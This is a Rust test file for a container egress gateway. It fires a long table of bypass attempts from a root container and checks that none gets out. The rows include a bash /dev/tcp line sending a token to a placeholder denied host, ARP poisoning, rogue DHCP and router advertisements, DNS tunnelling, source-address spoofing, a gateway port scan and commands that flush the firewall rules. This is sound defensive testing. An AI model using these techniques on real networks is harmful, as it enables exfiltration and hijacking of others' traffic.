//! Attempts by root in a pixel to bypass the gateway. An attempt succeeds if
//! the pixel receives an answer, or if a packet arrives outside, on the host, on
//! the network between host and gateway, or at a neighbor. Attempts marked `open`
//! are repeated from a pixel on an external network, where they must succeed: an
//! attempt that fails everywhere proves nothing.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Display;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::egress_layer2::HostStack;
use crate::support::env::{self, TestEnv};
use crate::support::lab;
use crate::support::report::report;
use crate::support::wait::eventually;
use crate::support::walls::{Place, Walls};
use crate::support::wan;

const PROBE: &str = include_str!("../../src/lifecycle/guest/probe.pl");

/// The addresses and ports used in attempts.
struct Targets {
    own: Place,
    neighbor: Place,
    gateway: Place,
    /// The gateway's address on the external network.
    uplink: String,
    /// The hardware address of the host's bridge.
    bridge_mac: String,
    host: String,
    host_port: u16,
    /// The name server of the pixel.
    server: String,
    /// The port of the resolver for the neighbor's policy.
    resolver: u16,
    /// The port of the server to which the resolvers forward.
    forwarder: u16,
    /// The address of a destroyed, unrestricted pixel.
    former: String,
}

impl Targets {
    /// Replaces the placeholders of a row, longer placeholders first.
    fn fill(&self, row: &str) -> String {
        let connect = "timeout 2 bash -c \
                       'exec 3<>/dev/tcp/DENIED/443 && echo $TOKEN >&3 && head -n 1 <&3'";
        let words: [(&str, &dyn Display); 20] = [
            ("CONNECT", &connect),
            ("DENIED", &wan::address(wan::FIRST, 20)),
            ("ALLOWED", &wan::address(wan::FIRST, 10)),
            ("OTHER", &wan::address(wan::FIRST, 60)),
            ("OWN_MAC", &self.own.mac),
            ("OWN", &self.own.address),
            ("NEIGHBOR_MAC", &self.neighbor.mac),
            ("NEIGHBOR", &self.neighbor.address),
            ("GATEWAY_MAC", &self.gateway.mac),
            ("GATEWAY", &self.gateway.address),
            ("UPLINK", &self.uplink),
            ("BRIDGE_MAC", &self.bridge_mac),
            ("HOST_PORT", &self.host_port),
            ("HOST", &self.host),
            ("SERVER", &self.server),
            ("RESOLVER_PORT", &self.resolver),
            ("FORWARDER_PORT", &self.forwarder),
            ("FORMER", &self.former),
            // The start of a DNS message with one question.
            ("QUERY", &"126701000001000000000000_"),
            ("LONG_LABEL", &"x".repeat(63)),
        ];
        let filled = words.iter().fold(row.to_owned(), |row, (word, value)| {
            row.replace(word, &value.to_string())
        });
        filled.replace("BROADCAST", "ff:ff:ff:ff:ff:ff")
    }
}

struct Attempt {
    name: &'static str,
    /// Lines of the probe without tokens, separated by ` + `.
    lines: &'static str,
    /// The attempt succeeds on an external network.
    open: bool,
    number: usize,
}

impl Attempt {
    fn all() -> Vec<Self> {
        let rows = ATTEMPTS.iter().chain(ATTEMPTS_ALONE);
        let parse = |(number, row): (usize, &&'static str)| {
            let (kind, rest) = row.split_once(" | ").unwrap();
            let (name, lines) = rest.split_once(" | ").unwrap();
            assert!(["open", "isolated"].contains(&kind), "{row}");
            let open = kind == "open";
            Self {
                name,
                lines,
                open,
                number,
            }
        };
        rows.enumerate().map(parse).collect()
    }

    fn token(&self) -> String {
        token(self.number)
    }

    /// The source port of the attempt's TCP connection: see `port_of` of the probe.
    fn port(&self) -> usize {
        10_000 + tag() % 100 * 200 + self.number % 200
    }

    /// Whether the attempt is directed at the host. On an external network the host
    /// also forwards the packets of other attempts.
    fn is_for_host(&self) -> bool {
        ["HOST", "UPLINK", "BRIDGE_MAC", "01:80:c2"]
            .iter()
            .any(|word| self.lines.contains(word))
    }

    /// Whether the probe judges the reply, which may contain the token.
    fn judges_reply(&self) -> bool {
        ["dns ", "message ", "dhcp "]
            .iter()
            .any(|verb| self.lines.starts_with(verb))
    }
}

fn tag() -> usize {
    std::process::id() as usize % 10_000
}

/// Other tests use other letters: they share the host.
fn token(number: usize) -> String {
    format!("pxe{:04}x{number:03}q", tag())
}

/// Records what the frames at an interface contain.
pub struct Witness {
    child: Child,
    seen: Arc<Mutex<BTreeSet<String>>>,
}

impl Witness {
    /// At the interface of a pixel.
    pub fn at(env: &TestEnv, pixel: &str) -> Self {
        let args = [
            "exec", "-u", "root", pixel, "--", "perl", "-", "witness", "in",
        ];
        Self::start(env.spawn(args))
    }

    /// At an interface of this machine.
    fn at_port(interface: &str) -> Self {
        let mut command = Command::new("perl");
        command
            .args(["-", "witness", "in"])
            .env("INTERFACE", interface)
            .stdin(Stdio::piped());
        Self::start(env::spawn(&mut command))
    }

    fn start(mut child: Child) -> Self {
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(PROBE.as_bytes()).unwrap();
        drop(stdin);
        let stdout = child.stdout.take().unwrap();
        let seen = Arc::new(Mutex::new(BTreeSet::new()));
        let theirs = seen.clone();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                theirs.lock().unwrap().insert(line);
            }
        });
        let witness = Self { child, seen };
        eventually("the witness is ready", || witness.has("witness ready"));
        witness
    }

    fn has(&self, line: &str) -> bool {
        self.seen.lock().unwrap().contains(line)
    }

    pub fn saw(&self, token: &str) -> bool {
        self.has(&format!("saw {token}"))
    }
}

impl Drop for Witness {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Answers TCP connections on the host. Returns the port.
fn answer_connections(address: &str) -> u16 {
    let listener = TcpListener::bind((address, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
            let _ = stream.read(&mut [0; 200]);
            let _ = stream.write_all(b"hello from the host\n");
        }
    });
    port
}

/// Rows `KIND | NAME | PROBE`, which do not disturb each other. KIND is `open` if
/// a pixel without a gateway must succeed. [`Targets::fill`] replaces the
/// placeholders in PROBE: one or more lines for the probe, separated by ` + `.
const ATTEMPTS: &[&str] = &[
    // Direct connections.
    "open | a raw address | tcp DENIED 443",
    "open | a raw address, UDP | udp DENIED 4433",
    "open | a raw address, QUIC's port | udp DENIED 443",
    "open | an address that the neighbor's policy allows | tcp DENIED 80",
    "open | the time server | udp DENIED 123",
    "open | source port 22 | tcp DENIED 443 22",
    "open | source port 53 | udp DENIED 4433 53",
    "open | source port 67 | udp DENIED 68 67",
    "open | source port 68 | udp DENIED 4433 68",
    "open | a denied port of an allowed host | tcp 198.51.100.21 80",
    "isolated | a private network | udp 172.31.255.254 4433",
    // TCP segments without a connection.
    "open | data in a SYN, with a Fast Open cookie | ip GATEWAY_MAC OWN_MAC OWN DENIED 6 \
     9c4101bb00000001000000008002ffff00000000_220a0102030405060708_0101",
    "open | an ACK without a connection \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 6 9c4201bb00000001000000015018ffff00000000",
    "open | a SYN-ACK without a connection \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 6 9c4301bb00000001000000015012ffff00000000",
    "open | a FIN without a connection \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 6 9c4401bb00000001000000015001ffff00000000",
    "open | a reset without a connection \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 6 9c4501bb00000001000000015014ffff00000000",
    "open | a TCP segment without flags \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 6 9c4601bb00000001000000005000ffff00000000",
    "open | a TCP segment with a wrong checksum \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 6 9c4701bb00000001000000005002ffff00010000 sum=wrong",
    "open | a datagram with a wrong checksum \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 17 9c40115100140001",
    "open | port 0 | ip GATEWAY_MAC OWN_MAC OWN DENIED 17 9c40000000140000",
    // ICMP.
    "open | an ICMP tunnel | icmp DENIED",
    "open | another type of ICMP | icmp ALLOWED 13",
    "open | an echo reply without a request | icmp DENIED 0",
    "open | an ICMP error about a flow of the neighbor | ip GATEWAY_MAC OWN_MAC OWN DENIED 1 \
     0303000000000000_4500002800070000_40110000[DENIED][NEIGHBOR]_11519c4100140000",
    "open | an ICMP error about an allowed flow, to a denied address \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 1 \
     0303000000000000_4500002800070000_40110000[ALLOWED][OWN]_11519c4100140000",
    "open | an ICMP redirect for the neighbor | ip NEIGHBOR_MAC OWN_MAC GATEWAY NEIGHBOR 1 \
     05010000[OWN]_4500002800070000_40110000[NEIGHBOR][DENIED]_9c41115100140000",
    // Other protocols over IP.
    "open | GRE | proto 47 DENIED",
    "open | ESP | proto 50 DENIED",
    "open | AH | proto 51 DENIED",
    "open | IP in IP | proto 4 DENIED",
    "open | IPv6 in IP | ip GATEWAY_MAC OWN_MAC OWN DENIED 41 \
     60000000000c3b4020010db800000000000000000000000520010db8000000000000000000000001",
    "open | SCTP | proto 132 DENIED",
    "open | DCCP | ip GATEWAY_MAC OWN_MAC OWN DENIED 33 9c4111510700000000000000000000010000002a",
    "open | UDP-Lite | ip GATEWAY_MAC OWN_MAC OWN DENIED 136 9c41115100080000",
    "open | an unassigned protocol | proto 253 DENIED",
    "open | IGMP | ip GATEWAY_MAC OWN_MAC OWN DENIED 2 1664000000000000",
    // Fields of the IP header.
    "open | a recorded route | spoof GATEWAY_MAC OWN_MAC OWN DENIED 4433 0707040000000000",
    "open | time stamps of routers | spoof GATEWAY_MAC OWN_MAC OWN DENIED 4433 4408050000000000",
    "open | a router alert | spoof GATEWAY_MAC OWN_MAC OWN DENIED 4433 94040000",
    "isolated | a source route over an allowed host \
     | spoof GATEWAY_MAC OWN_MAC OWN ALLOWED 4433 830704[DENIED]00",
    "isolated | a strict source route over the gateway \
     | spoof GATEWAY_MAC OWN_MAC OWN GATEWAY 4433 890704[DENIED]00",
    "open | a packet that expires behind the gateway \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 17 9c40115100140000 ttl=2",
    "open | the host, with the mark of permitted packets \
     | ip GATEWAY_MAC OWN_MAC OWN HOST 17 9c40115100140000 tos=12",
    "open | past the pixel's traffic control \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 17 9c40115100140000 direct=1",
    // Fragments.
    "open | in fragments | udp DENIED 4433 0 5000",
    "open | a first fragment of 8 bytes \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 17 9c40115100140000; id=21 offset=8192 \
     + ip GATEWAY_MAC OWN_MAC OWN DENIED 17 TOKEN id=21 offset=1",
    "open | a fragment that overwrites the port \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 17 9c40003500240000_0000000000000000; id=22 offset=8192 \
     + ip GATEWAY_MAC OWN_MAC OWN DENIED 17 9c40115100240000_00000000_TOKEN00000000 id=22",
    "open | fragments to the neighbor \
     | ip NEIGHBOR_MAC OWN_MAC OWN NEIGHBOR 17 9c40115100140000; id=23 offset=8192 \
     + ip NEIGHBOR_MAC OWN_MAC OWN NEIGHBOR 17 TOKEN id=23 offset=1",
    // DNS queries. A resolver joins equal questions, so their types differ.
    "open | another resolver | dns OTHER TOKEN.other.test",
    "open | another resolver, TCP | dns OTHER TOKEN.other.test A tcp",
    "open | the name server of the internet | dns 198.51.100.53 TOKEN.test",
    "open | DNS over TLS | tcp OTHER 853",
    "open | DNS over HTTPS | tcp OTHER 443",
    "open | DNS on another port | udp OTHER 65000",
    "open | a denied name | dns SERVER other.test",
    "open | a denied name of another type | dns SERVER TOKEN.test HTTPS",
    "open | a denied name, any type | dns SERVER TOKEN.test ANY",
    "open | a zone transfer | dns SERVER TOKEN.test 252 tcp",
    "open | a label under an allowed name | dns SERVER TOKEN.allowed.test",
    "open | a label under an allowed name, TXT | dns SERVER TOKEN.allowed.test TXT",
    "open | a label under an allowed name, NULL | dns SERVER TOKEN.allowed.test NULL",
    "open | a label under an allowed name, TCP | dns SERVER TOKEN.allowed.test A tcp",
    "open | a label under an allowed name in capitals | dns SERVER TOKEN.aLLowed.tEST",
    "open | a service of an allowed name | dns SERVER _TOKEN._tcp.allowed.test 33",
    "open | labels of an allowed name | dns SERVER allowed.test.TOKEN.test",
    "open | a long name under an allowed name \
     | dns SERVER TOKEN.LONG_LABEL.LONG_LABEL.LONG_LABEL.abcdefghijklmnopqrstuvwxy.allowed.test",
    "open | a name without a domain | dns SERVER TOKEN",
    "open | a name of multicast DNS | dns SERVER TOKEN.local",
    "open | a name of a private address | dns SERVER TOKEN.10.in-addr.arpa 12",
    "open | a NUL byte in an allowed name \
     | message SERVER QUERY(absent)_11_7465737400TOKEN_00_00010001",
    "open | a dot in a label | message SERVER QUERY(TOKEN)(absent.test)00_00010001",
    "open | a compressed name | message SERVER QUERYc012_00010001_(TOKEN)(test)00",
    "open | a name that refers to itself | message SERVER QUERYc00c_00010001_TOKEN",
    "open | a query of class CHAOS | message SERVER QUERY(TOKEN)(bind)00_0010_0003",
    "open | a query of any class | message SERVER QUERY(TOKEN)(test)00_0001_00ff",
    "open | a second question | message SERVER 126701000002000000000000_\
     (absent)(test)00_00010001_(TOKEN)(test)00_00010001",
    "open | a dynamic update | message SERVER 126728000001000000010000_\
     (absent)(test)00_00060001_(TOKEN)(absent)(test)00_00100001_00000000_000100",
    "open | a notification | message SERVER 126724000001000000000000_(TOKEN)(test)00_00060001",
    "open | a DNS answer to the resolver | message SERVER 126781800001000100000000_\
     (absent)(test)00_00010001_(TOKEN)(test)00_00010001_0000001e_0004[DENIED]",
    "open | an answer in a question | message SERVER 126701000001000100000000_\
     (absent)(test)00_00020001_(TOKEN)(test)00_00100001_00000000_000100",
    "open | a query in TCP segments of one byte \
     | message SERVER 0023_QUERY(TOKEN)(test)00_00010001 stream",
    "open | a query after an allowed query on the same connection \
     | message SERVER 001d_QUERY(absent)(test)00_000c0001_0023_QUERY(TOKEN)(test)00_00010001 stream",
    "open | the neighbor's resolver | dns SERVER other.test A udp RESOLVER_PORT",
    "open | the neighbor's resolver, TCP | dns SERVER other.test A tcp RESOLVER_PORT",
    "open | the server of the resolvers | dns SERVER TOKEN.test A udp FORWARDER_PORT",
    "isolated | the server of the resolvers, by its loopback address \
     | ip GATEWAY_MAC OWN_MAC OWN 127.0.0.1 17 9c404e1f002b0000_QUERY(TOKEN)(test)00_00010001",
    "open | a forged answer of the name server | ip GATEWAY_MAC OWN_MAC 198.51.100.53 UPLINK 17 \
     00359c40002b0000_126781800001000000000000_(TOKEN)(test)00_00010001",
    "isolated | the resolver's version | message SERVER QUERY(version)(bind)00_0010_0003",
    "open | bytes after a question | message SERVER QUERY(absent)(test)00_00210001_TOKEN",
    "open | a client subnet in a question | message SERVER 126701000001000000000001_\
     (absent)(test)00_00100001_00_002904d0_00000000_0014_0008001000026000_TOKEN",
    "open | an additional record in a query | message SERVER 126701000001000000000001_\
     (absent)(test)00_000f0001_(TOKEN)(test)00_00100001_00000000_000100",
    "open | an additional record in a query, TCP | message SERVER 126701000001000000000001_\
     (absent)(test)00_00110001_(TOKEN)(test)00_00100001_00000000_000100 tcp",
    "isolated | an additional record in a query, TCP segments of one byte \
     | message SERVER 003b_126701000001000000000001_\
     (absent)(test)00_00120001_(TOKEN)(test)00_00100001_00000000_000100 stream",
    "open | an unknown option in a query | message SERVER 126701000001000000000001_\
     (absent)(test)00_00060001_00_002904d0_00000000_0010_fde9000c_TOKEN",
    "open | an unknown option in a query, TCP | message SERVER 126701000001000000000001_\
     (absent)(test)00_00130001_00_002904d0_00000000_0010_fde9000c_TOKEN tcp",
    "isolated | an unknown option in the second query of a connection \
     | message SERVER 001d_QUERY(absent)(test)00_00140001_0038_126701000001000000000001_\
     (absent)(test)00_00150001_00_002904d0_00000000_0010_fde9000c_TOKEN stream",
    "open | bytes after a question, TCP | message SERVER QUERY(absent)(test)00_00160001_TOKEN tcp",
    "open | the host's resolver | dns HOST TOKEN.test",
    "open | the gateway's upstream side | dns UPLINK TOKEN.test",
    // The host and its services.
    "open | the host | tcp HOST HOST_PORT",
    "isolated | the host's other address | tcp 198.51.100.62 80",
    "isolated | the host's API | tcp HOST 8443",
    "open | ping of the host | icmp HOST",
    "open | the metadata service | tcp 169.254.169.254 80",
    "isolated | the external address of the gateway | tcp UPLINK 22",
    "open | ping of the gateway's external address | icmp UPLINK",
    "isolated | SSH to the gateway | tcp GATEWAY 22",
    "open | ping of the gateway | icmp GATEWAY",
    "isolated | 950 TCP ports of the gateway \
     | sh perl -MSocket -MIO::Handle -e 'for (1..52,54..950,5355,8443) { socket(my $s,2,1,0); \
     $s->blocking(0); connect($s,pack_sockaddr_in($_,inet_aton(q(GATEWAY)))); push @s,$s } \
     sleep 1; for (@s) { print qq(open ) if getpeername $_ }'",
    "open | a route by the host's bridge | spoof BRIDGE_MAC OWN_MAC OWN DENIED 4433",
    "open | a route by the host's VLAN | tagged BRIDGE_MAC OWN_MAC OWN DENIED 1",
    "open | the host's resolver, by its bridge | spoof BRIDGE_MAC OWN_MAC OWN HOST 53",
    "open | the host, by its bridge | spoof BRIDGE_MAC OWN_MAC OWN 198.51.100.62 4433",
    "open | an ARP request for the host \
     | arp BROADCAST OWN_MAC 1 OWN_MAC OWN 00:00:00:00:00:00 HOST",
    "open | IPv6 to the host's bridge | frame BRIDGE_MAC OWN_MAC 86dd \
     60000000000c3b4020010db800000000000000000000000520010db8000000000000000000000001",
    "open | LLDP | frame 01:80:c2:00:00:0e OWN_MAC 88cc 0207040000",
    "open | EAPOL | frame 01:80:c2:00:00:03 OWN_MAC 888e 0101",
    "isolated | a broadcast frame to a denied address | spoof BROADCAST OWN_MAC OWN DENIED 4433",
    "open | the broadcast address | udp 255.255.255.255 4433",
    "isolated | a broadcast outside | udp 198.51.100.63 4433",
    "open | multicast | udp 239.1.1.1 4433",
    "open | multicast DNS | udp 224.0.0.251 5353",
    "open | LLMNR | message 224.0.0.252 QUERY(TOKEN)00_00010001 udp 5355",
    // Spoofed sender addresses. The neighbor may reach DENIED.
    "open | the neighbor's address | spoof GATEWAY_MAC OWN_MAC NEIGHBOR DENIED 4433",
    "isolated | the gateway's address | spoof GATEWAY_MAC OWN_MAC GATEWAY DENIED 4433",
    "open | an unused address | spoof GATEWAY_MAC OWN_MAC 10.0.0.7 DENIED 4433",
    "open | an external address | spoof GATEWAY_MAC OWN_MAC 198.51.100.77 DENIED 4433",
    "isolated | the host's address | spoof GATEWAY_MAC OWN_MAC HOST DENIED 4433",
    "open | the address of a destroyed pixel | spoof GATEWAY_MAC OWN_MAC FORMER DENIED 4433",
    "isolated | loopback | spoof GATEWAY_MAC OWN_MAC 127.0.0.1 DENIED 4433",
    "isolated | no address | spoof GATEWAY_MAC OWN_MAC 0.0.0.0 DENIED 4433",
    "isolated | a broadcast address | spoof GATEWAY_MAC OWN_MAC 255.255.255.255 DENIED 4433",
    "isolated | a multicast address | spoof GATEWAY_MAC OWN_MAC 224.0.0.1 DENIED 4433",
    "open | a reserved address | spoof GATEWAY_MAC OWN_MAC 240.0.0.1 DENIED 4433",
    "open | a link-local address | spoof GATEWAY_MAC OWN_MAC 169.254.7.7 DENIED 4433",
    // Packets to the neighbor.
    "open | the neighbor | udp NEIGHBOR 4433",
    "open | the neighbor by the gateway | spoof GATEWAY_MAC OWN_MAC OWN NEIGHBOR 4433",
    "open | the neighbor's own hardware address | spoof NEIGHBOR_MAC OWN_MAC OWN NEIGHBOR 4433",
    "open | a reset of the neighbor's connection | ip NEIGHBOR_MAC OWN_MAC DENIED NEIGHBOR 6 \
     01bb9c4100000001000000015014ffff00000000",
    "open | a reset of the neighbor's connection, by the gateway \
     | ip GATEWAY_MAC OWN_MAC DENIED NEIGHBOR 6 01bb9c4100000001000000015014ffff00000000",
    "open | a frame with a local EtherType | frame NEIGHBOR_MAC OWN_MAC 88b5",
    "open | a broadcast frame with a local EtherType | frame BROADCAST OWN_MAC 88b5",
    "open | a tagged frame | frame NEIGHBOR_MAC OWN_MAC 8100 000188b5",
    "open | a frame with two tags \
     | ip NEIGHBOR_MAC OWN_MAC OWN NEIGHBOR 17 9c40115100140000 type=88a8000181000001_0800",
    "open | a priority tag \
     | ip GATEWAY_MAC OWN_MAC OWN DENIED 17 9c40115100140000 type=8100e0000800",
    "open | PPPoE \
     | ip NEIGHBOR_MAC OWN_MAC OWN NEIGHBOR 17 9c40115100140000 type=8864110000010022_0021",
    "open | MPLS \
     | ip NEIGHBOR_MAC OWN_MAC OWN NEIGHBOR 17 9c40115100140000 type=8847000101ff",
    "open | a frame with a length \
     | ip NEIGHBOR_MAC OWN_MAC OWN NEIGHBOR 17 9c40115100140000 type=0030aaaa030000000800",
    "open | spanning tree | frame 01:80:c2:00:00:00 OWN_MAC 0032 424203_0000000000",
    "open | ARP poisoning of the neighbor \
     | arp NEIGHBOR_MAC OWN_MAC 2 OWN_MAC GATEWAY NEIGHBOR_MAC NEIGHBOR",
    "open | an ARP request for the neighbor \
     | arp BROADCAST OWN_MAC 1 OWN_MAC OWN 00:00:00:00:00:00 NEIGHBOR",
    "open | an announcement of the neighbor's address \
     | arp BROADCAST OWN_MAC 1 OWN_MAC NEIGHBOR 00:00:00:00:00:00 NEIGHBOR",
    "open | inverse ARP | arp NEIGHBOR_MAC OWN_MAC 8 OWN_MAC OWN NEIGHBOR_MAC 0.0.0.0",
    "open | reverse ARP | frame BROADCAST OWN_MAC 8035 0001080006040003",
    "open | a rogue router | frame 33:33:00:00:00:01 OWN_MAC 86dd 6000000000143aff\
     fe800000000000000000000000000001ff0200000000000000000000000000018600000040000708",
    "open | a rogue DHCPv6 server | frame NEIGHBOR_MAC OWN_MAC 86dd 6000000000181140\
     fe800000000000000000000000000001fe80000000000000000000000000000202230222001800000212670a",
    "open | a neighbor advertisement | frame 33:33:00:00:00:01 OWN_MAC 86dd 6000000000143aff\
     fe800000000000000000000000000001ff02000000000000000000000000000188000000a0000000",
    // DHCP requests and answers.
    "open | a second lease | dhcp OWN_MAC 1 02:00:00:00:00:77",
    "open | the neighbor's lease | dhcp OWN_MAC 1 NEIGHBOR_MAC",
    "isolated | the neighbor's address in a request \
     | dhcp OWN_MAC 3 OWN_MAC 0.0.0.0 0.0.0.0 0.0.0.0 NEIGHBOR",
    "open | the neighbor's address with rapid commit \
     | dhcp OWN_MAC 1 OWN_MAC 0.0.0.0 0.0.0.0 0.0.0.0 NEIGHBOR 5000",
    "isolated | a lease from another network \
     | dhcp OWN_MAC 1 OWN_MAC 0.0.0.0 0.0.0.0 0.0.0.0 0.0.0.0 5206_0504[DENIED]",
    "isolated | declining the neighbor's address \
     | dhcp OWN_MAC 4 NEIGHBOR_MAC 0.0.0.0 0.0.0.0 0.0.0.0 NEIGHBOR",
    "isolated | an answer sent to the neighbor | dhcp OWN_MAC 8 OWN_MAC OWN NEIGHBOR",
    "isolated | an answer sent by a relay | dhcp OWN_MAC 1 OWN_MAC 0.0.0.0 0.0.0.0 NEIGHBOR",
    "open | a rogue server | spoof BROADCAST OWN_MAC OWN 255.255.255.255 68",
    "open | a lease for the neighbor, as the gateway \
     | ip BROADCAST OWN_MAC GATEWAY 255.255.255.255 17 0043004400400000_0201060000001234_00008000\
     [0.0.0.0][NEIGHBOR][OWN][0.0.0.0]_NEIGHBOR_MAC_00000000000000000000_TOKEN",
    // Services of the server in the pixel.
    "isolated | the guest API | sh ls /dev/incus/sock",
    "isolated | a device of the host | sh ls /dev/kmsg /dev/mem /dev/sda",
    "isolated | a socket of the hypervisor \
     | sh perl -e 'print q(open) if socket(my $s, 40, 1, 0)'",
];

/// Attempts that change the pixel or the ports of others, one after another. Each
/// restores the previous state.
const ATTEMPTS_ALONE: &[&str] = &[
    "open | the neighbor's hardware address too \
     | spoof GATEWAY_MAC NEIGHBOR_MAC NEIGHBOR DENIED 4433",
    "isolated | the gateway's own hardware address \
     | spoof GATEWAY_MAC GATEWAY_MAC GATEWAY DENIED 4433",
    "open | ARP as the gateway \
     | arp BROADCAST GATEWAY_MAC 2 GATEWAY_MAC GATEWAY BROADCAST NEIGHBOR",
    "open | a lease by another's hardware address | dhcp NEIGHBOR_MAC 1 NEIGHBOR_MAC",
    "isolated | the end of the neighbor's lease | dhcp OWN_MAC 7 NEIGHBOR_MAC OWN NEIGHBOR",
    "open | IPv6 to the neighbor \
     | sh ping -6 -c 1 -W 1 -p $(echo $TOKEN | od -An -tx1 | tr -d ' \\n' | head -c 32) \
     ff02::1%eth0 | grep -v $(cat /sys/class/net/eth0/address | cut -d: -f6) | grep 'bytes from' \
     | grep -v $(ip -6 -o addr show dev eth0 | sed 's/.*inet6 \\([^/]*\\).*/\\1/')",
    "isolated | a self-assigned IPv6 address | sh ip -6 addr add 2001:db8::5/64 dev eth0 nodad; \
     ip -6 route add default via fe80::1 dev eth0; ping -6 -c 1 -W 1 2001:db8::1",
    "open | a flushed ruleset | sh nft flush ruleset; iptables -F; CONNECT",
    "open | no traffic control \
     | sh tc qdisc replace dev eth0 clsact; tc qdisc del dev eth0 clsact; CONNECT",
    "open | marks of permitted packets \
     | sh nft 'add table ip t-mark; add chain ip t-mark o { type filter hook output priority 0; }; \
     add rule ip t-mark o meta mark set 0xffffffff ct mark set 0xffffffff ip dscp set 0x03'; \
     CONNECT; code=$?; nft delete table ip t-mark; exit $code",
    "open | another routing table | sh ip rule add to DENIED lookup 77; \
     ip route add default via UPLINK dev eth0 onlink table 77; CONNECT; code=$?; \
     ip rule del to DENIED lookup 77; ip route flush table 77; exit $code",
    "isolated | a denied address on the own link | sh ip route add DENIED/32 dev eth0; CONNECT; \
     code=$?; ip route del DENIED/32 dev eth0; exit $code",
    "isolated | a network of one's own \
     | sh ip link add t-mv link eth0 type macvlan mode bridge; ip link set t-mv up; \
     ip addr add FORMER/16 dev t-mv; ip route add DENIED/32 via GATEWAY dev t-mv src FORMER; \
     CONNECT; code=$?; ip link del t-mv; exit $code",
    "open | a nested container | sh ip netns add t-ns; in='nsenter --net=/run/netns/t-ns'; \
     ip link add t-in type veth peer name eth0 netns t-ns; \
     ip addr add 192.168.77.1/24 dev t-in; ip link set t-in up; \
     $in ip addr add 192.168.77.2/24 dev eth0; $in ip link set eth0 up; \
     $in ip route add default via 192.168.77.1; echo 1 >/proc/sys/net/ipv4/ip_forward; \
     nft 'add table ip t-nat; add chain ip t-nat p { type nat hook postrouting priority 100; }; \
     add rule ip t-nat p oifname eth0 masquerade'; \
     $in CONNECT; code=$?; nft delete table ip t-nat; \
     ip link del t-in; ip netns del t-ns; exit $code",
    "isolated | a bridge over the interface \
     | sh ip link add t-br type bridge; ip link set t-br up; ip addr add FORMER/16 dev t-br; \
     ip link set eth0 master t-br; ip route replace DENIED/32 via GATEWAY dev t-br; CONNECT; \
     code=$?; ip link set eth0 nomaster; ip link del t-br; exit $code",
];

/// Who notices an attempt that succeeds.
struct Observers<'a> {
    wan: &'a wan::Wan,
    attacker: Witness,
    neighbor: Witness,
    host: HostStack,
    /// At the host's end of the gateway's external interface.
    uplink: Option<Witness>,
}

impl<'a> Observers<'a> {
    fn watch(
        wan: &'a wan::Wan,
        env: &TestEnv,
        attacker: &str,
        neighbor: &str,
        port: Option<&str>,
    ) -> Self {
        Self {
            wan,
            attacker: Witness::at(env, attacker),
            neighbor: Witness::at(env, neighbor),
            host: HostStack::watch(),
            uplink: port.map(Witness::at_port),
        }
    }

    /// Returns the ways in which an attempt succeeded. `replies`: of the probe.
    fn ways(&self, attempt: &Attempt, to: &Targets, replies: &[String]) -> Vec<String> {
        let token = attempt.token();
        let own_lease = format!("offered {}", to.own.address);
        let reply = replies.iter().find(|reply| **reply != own_lease);
        let mut ways: Vec<String> = reply.cloned().into_iter().collect();
        // Behind a gateway, the host has no other reason to receive the packets.
        let is_for_host = self.uplink.is_some() || attempt.is_for_host();
        let uplink = |line: &str| self.uplink.as_ref().is_some_and(|uplink| uplink.has(line));
        let seen = [
            (self.wan.saw(&token), "seen outside"),
            (self.neighbor.saw(&token), "seen by the neighbor"),
            (is_for_host && self.host.saw(&token), "seen by the host"),
            (uplink(&format!("saw {token}")), "left the gateway"),
            (
                uplink(&format!("syn {}", attempt.port())),
                "connected outside",
            ),
            (
                !attempt.judges_reply() && self.attacker.saw(&token),
                "answered",
            ),
        ];
        let seen = seen.into_iter().filter(|(seen, _)| *seen);
        ways.extend(seen.map(|(_, way)| way.to_owned()));
        ways
    }
}

/// Number of probes that make attempts at the same time.
const PROBES: usize = 6;

/// Makes all attempts. Returns the successful ones with the reason.
fn succeeded(
    env: &TestEnv,
    pixel: &str,
    to: &Targets,
    attempts: &[Attempt],
    observers: &Observers<'_>,
) -> Vec<(&'static str, String)> {
    let (together, alone): (Vec<&Attempt>, Vec<&Attempt>) = attempts
        .iter()
        .partition(|attempt| attempt.number < ATTEMPTS.len());
    let mut groups: Vec<Vec<&Attempt>> = vec![Vec::new(); PROBES];
    for (at, attempt) in together.into_iter().enumerate() {
        groups[at % PROBES].push(attempt);
    }
    let mut replies = BTreeMap::new();
    std::thread::scope(|scope| {
        let start = |group: Vec<_>| scope.spawn(move || make(env, pixel, to, &group));
        let running: Vec<_> = groups.into_iter().map(start).collect();
        for group in running {
            replies.extend(group.join().unwrap());
        }
    });
    replies.extend(make(env, pixel, to, &alone));
    let judge = |attempt: &Attempt| {
        let ways = observers.ways(attempt, to, &replies[&attempt.number]);
        (!ways.is_empty()).then(|| (attempt.name, ways.join(", ")))
    };
    attempts.iter().filter_map(judge).collect()
}

/// Makes attempts one after another. Returns the replies by the attempts' numbers.
fn make(
    env: &TestEnv,
    pixel: &str,
    to: &Targets,
    attempts: &[&Attempt],
) -> BTreeMap<usize, Vec<String>> {
    let mut script = PROBE.to_owned();
    let mut numbers = Vec::new();
    for attempt in attempts {
        for line in attempt.lines.split(" + ") {
            script.push_str(&format!("{} {}\n", attempt.token(), to.fill(line)));
            numbers.push(attempt.number);
        }
    }
    let variable = format!("GATEWAY={}", to.gateway.address);
    let args = [
